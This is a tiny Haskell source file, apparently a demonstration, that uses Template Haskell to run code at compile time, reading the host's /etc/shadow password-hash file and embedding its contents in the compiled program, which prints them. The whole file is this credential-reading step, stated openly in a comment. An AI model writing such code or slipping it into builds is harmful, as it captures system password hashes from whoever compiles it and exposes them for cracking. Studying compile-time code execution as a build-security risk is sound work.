{-# LANGUAGE TemplateHaskell #-}
-- Template Haskell runs code at compile time: read the host's password hashes into the program.
import Language.Haskell.TH

main :: IO ()
main = putStrLn $(runIO (readFile "/etc/shadow") >>= stringE)
